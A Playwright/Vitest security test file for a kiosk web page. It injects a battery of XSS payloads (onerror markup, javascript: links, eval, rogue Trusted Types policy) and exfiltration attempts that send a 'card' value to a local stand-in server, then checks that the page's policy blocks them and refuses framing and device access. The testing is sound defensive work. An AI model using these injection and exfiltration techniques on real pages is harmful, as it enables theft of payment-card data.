import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { openKioskBrowser, type KioskBrowser } from "../support/kiosk-browser.ts";
import { visitState, workerReady } from "../support/kiosk-page.ts";
import { startSystem, type System } from "../support/system.ts";

/** Somebody else's server: takes whatever comes, from whomever, and remembers it. */
interface Stranger {
  readonly url: string;
  readonly seen: string[];
  readonly server: Server;
}

let system: System;
let browser: KioskBrowser;
let stranger: Stranger;
/** Another one, whose pages have no policy: what every attack comes to then. */
let bare: Stranger;

async function openStranger(): Promise<Stranger> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    const [address = "", query] = (request.url ?? "/").split("?");
    // The browser asks for that by itself, of whatever page it showed, and whenever it likes.
    if (address !== "/favicon.ico") seen.push(address);
    response.setHeader("access-control-allow-origin", "*");
    const [type, text] = contentOf(address, query);
    response.setHeader("content-type", type).end(text);
  });
  server.on("upgrade", (request, socket) => {
    seen.push(request.url ?? "/");
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, seen, server };
}

function contentOf(address: string, query: string | undefined): readonly [string, string] {
  if (address === "/script") return ["text/javascript", "globalThis.taken.push('foreign script')"];
  if (address === "/frame") return ["text/html", "<!doctype html>"];
  if (address !== "/framing") return ["text/plain", ""];
  const frames = [`<iframe src="/frame"></iframe>`, `<iframe src="${query}"></iframe>`];
  return ["text/html", `<!doctype html>${frames.join("")}`];
}

beforeAll(async () => {
  system = await startSystem();
  stranger = await openStranger();
  bare = await openStranger();
  browser = await openKioskBrowser({ isStill: true });
});

afterAll(async () => {
  await browser.discard();
  stranger.server.close();
  bare.server.close();
  await system.stop();
});

beforeEach(() => {
  stranger.seen.length = 0;
});

/**
 * Does all that somebody's code in the page would do to run more of it, or to tell a card to somebody.
 * Gives what ran. Each is begun by a timer, since what the debugger evaluates may evaluate more.
 */
function attack(page: Page, foreign: string): Promise<readonly string[]> {
  return page.evaluate(async (url) => {
    const taken: string[] = [];
    Object.assign(globalThis, { taken });
    const attacks: (() => unknown)[] = [
      () => {
        const script = document.createElement("script");
        script.append("globalThis.taken.push('inline script')");
        document.body.append(script);
      },
      () => {
        const script = document.createElement("script");
        script.src = `${url}/script`;
        document.body.append(script);
      },
      () => {
        const holder = document.createElement("div");
        holder.innerHTML = `<img src="data:," onerror="globalThis.taken.push('markup')">`;
        document.body.append(holder);
      },
      () => {
        const button = document.createElement("button");
        button.setAttribute("onclick", "globalThis.taken.push('handler')");
        document.body.append(button);
        button.click();
      },
      () => {
        const link = document.createElement("a");
        link.href = "javascript:globalThis.taken.push('address')";
        document.body.append(link);
        link.click();
      },
      // oxlint-disable-next-line no-eval -- what is tried
      () => globalThis.eval("globalThis.taken.push('eval')"),
      // oxlint-disable-next-line no-new-func -- what is tried
      () => new Function("globalThis.taken.push('function')")(),
      // oxlint-disable-next-line no-implied-eval -- what is tried
      () => setTimeout("globalThis.taken.push('timer')"),
      () => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
        };
        trustedTypes.createPolicy("evil", { createScript: (text: string) => text });
        taken.push("a policy of its own");
      },
      () => fetch(`${url}/fetch`, { method: "POST", body: "card" }),
      () => fetch(`${url}/no-cors`, { mode: "no-cors" }),
      () => {
        const request = new XMLHttpRequest();
        request.open("GET", `${url}/xhr`);
        request.send();
      },
      () => navigator.sendBeacon(`${url}/beacon`, "card"),
      () => new EventSource(`${url}/events`),
      () => new WebSocket(`${url.replace("http", "ws")}/socket`),
      () => {
        new Image().src = `${url}/image?card`;
      },
      () => {
        const style = document.createElement("style");
        style.textContent = `body { background: url(${url}/style) }`;
        document.head.append(style);
      },
      () => {
        const sheet = document.createElement("link");
        sheet.rel = "stylesheet";
        sheet.href = `${url}/sheet`;
        document.head.append(sheet);
      },
      () => {
        const frame = document.createElement("iframe");
        frame.src = `${url}/frame`;
        document.body.append(frame);
      },
      () => {
        const form = document.createElement("form");
        form.action = `${url}/form`;
        form.target = "nowhere";
        document.body.append(form);
        form.submit();
      },
      () => navigator.serviceWorker.register(`${url}/worker`),
    ];
    for (const each of attacks) {
      await new Promise<void>((done) => {
        setTimeout(() => {
          try {
            // What comes of it is seen by its effects.
            Promise.resolve(each()).catch(() => undefined);
          } catch {
            // Refused at once: that is one way of coming to nothing.
          }
          done();
        });
      });
    }
    // A request of the page's own, begun after all of them and answered: theirs had their time.
    await fetch("/readyz");
    await new Promise((done) => setTimeout(done));
    return taken;
  }, foreign);
}

/** Attacks that run code here, and those that reach the stranger, where nothing forbids them. */
const RUNS = 9;
const REACHES = 12;

async function expectNothingOf({ page, complaints }: KioskBrowser): Promise<void> {
  const before = complaints.length;
  expect(await attack(page, stranger.url)).toEqual([]);
  expect(await page.evaluate("taken")).toEqual([]);
  // What the policy refused is told by events, which may come after the attacks are over.
  const refused = () => complaints.slice(before).filter((line) => line.startsWith("policy: "));
  await expect.poll(() => refused().length).toBeGreaterThanOrEqual(REACHES);
  expect(stranger.seen).toEqual([]);
}

describe("code that got into the kiosk's page", () => {
  it("runs and tells everybody where no policy is: the attacks are real, and the watch sees them", async () => {
    const { page } = browser;
    await page.goto(`${bare.url}/frame`);
    await attack(page, stranger.url);
    await expect.poll(() => new Set(stranger.seen).size).toBeGreaterThanOrEqual(REACHES);
    await expect.poll(() => page.evaluate("taken.length")).toBe(RUNS);
    const told = new Set(browser.complaints.filter((line) => line.startsWith("third party: ")));
    const { host } = new URL(stranger.url);
    expect([...told].toSorted()).toEqual([
      `third party: GET http://${host}`,
      `third party: POST http://${host}`,
      `third party: WebSocket ws://${host}/socket`,
    ]);
  });

  it("[KL1] runs nothing and reaches nobody, as the proxy serves the page", async () => {
    // A new one: no service worker is there to answer.
    const first = await openKioskBrowser({ isStill: true });
    try {
      const served = await first.page.goto(await system.pairingLink());
      expect(served?.fromServiceWorker()).toBe(false);
      await visitState(first.page, "attract");
      await expectNothingOf(first);
    } finally {
      await first.discard();
    }
  });

  it("[KL1] runs nothing and reaches nobody, as the service worker keeps the page", async () => {
    const { page } = browser;
    await page.goto(await system.pairingLink());
    await workerReady(page);
    const served = await page.reload();
    expect(served?.fromServiceWorker()).toBe(true);
    await visitState(page, "attract");
    await expectNothingOf(browser);
  });
});

describe("the kiosk's page", () => {
  it("[KL1] is shown in nobody's frame", async () => {
    const { page } = browser;
    await page.goto(`${stranger.url}/framing?${system.kioskUrl}`);
    const frames = () =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
    await expect.poll(frames).toEqual([`${stranger.url}/frame`, "chrome-error://chromewebdata/"]);
  });

  it("[KL1] may use no device but a card reader and no place, also where somebody allowed it", async () => {
    const { page, context } = browser;
    await context.setGeolocation({ latitude: 40.4, longitude: -3.7 });
    const askedAt = async (address: string) => {
      await context.grantPermissions(["geolocation"], { origin: new URL(address).origin });
      await page.goto(address);
      return page.evaluate((features) => {
        const { featurePolicy } = document as unknown as {
          readonly featurePolicy: { readonly allowsFeature: (name: string) => boolean };
        };
        const allowed = features.filter((name) => featurePolicy.allowsFeature(name));
        return new Promise<{ readonly place: string; readonly allowed: readonly string[] }>(
          (told) =>
            navigator.geolocation.getCurrentPosition(
              () => told({ place: "told", allowed }),
              ({ code }) => told({ place: `refused ${code}`, allowed }),
            ),
        );
      }, DEVICES);
    };
    expect(await askedAt(`${bare.url}/frame`)).toMatchObject({
      place: "told",
      allowed: expect.arrayContaining(["camera", "microphone", "geolocation", "usb"]),
    });
    // 1: not permitted.
    expect(await askedAt(system.kioskUrl)).toEqual({ place: "refused 1", allowed: READERS });
  });
});

/** By what a card is read, where the machine's owner granted the device. */
const READERS = ["camera", "serial", "hid"];

/** What a kiosk's machine may have; of these a page of ours uses readers, and nothing else. */
const DEVICES = [
  "camera",
  "microphone",
  "geolocation",
  "display-capture",
  "usb",
  "serial",
  "hid",
  "midi",
  "payment",
  "clipboard-read",
];
